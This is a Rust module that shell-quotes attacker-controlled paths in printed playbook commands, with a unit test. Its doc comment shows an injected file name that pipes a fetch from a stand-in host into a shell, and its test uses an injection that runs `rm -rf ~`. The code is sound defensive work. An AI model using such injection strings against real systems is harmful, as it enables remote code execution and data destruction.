//! Quoting for the commands a playbook prints: a path or name in a command is attacker-controlled
//! (a script called `x'; curl evil|sh #` exists as easily as `sync.sh`), so every such value is
//! quoted for POSIX `sh`, and copying the command can run nothing but the command.

/// `s` as one `sh` word. shlex quotes with single quotes (escaping embedded ones), which `sh` never
/// expands; it refuses only a NUL byte, which no path or argument can hold: NULs are dropped.
pub fn quote(s: &str) -> String {
    let clean: String;
    let s = if s.contains('\0') {
        clean = s.replace('\0', "");
        clean.as_str()
    } else {
        s
    };
    if s.is_empty() {
        return "''".into();
    }
    match shlex::try_quote(s) {
        Ok(q) => q.into_owned(),
        // Unreachable after the NUL removal; still, never print a value unquoted.
        Err(_) => format!("'{}'", s.replace('\'', r"'\''")),
    }
}

#[cfg(test)]
mod tests {
    use super::quote;

    #[test]
    fn plain_words_stay_readable_and_hostile_ones_are_single_quoted() {
        assert_eq!(quote("/usr/bin/curl"), "/usr/bin/curl");
        assert_eq!(quote(""), "''");
        let q = quote("/tmp/x'; rm -rf ~ #");
        assert!(q.starts_with('\'') || q.starts_with('"'), "{q}");
        assert!(!quote("a\0b").contains('\0'));
    }
}
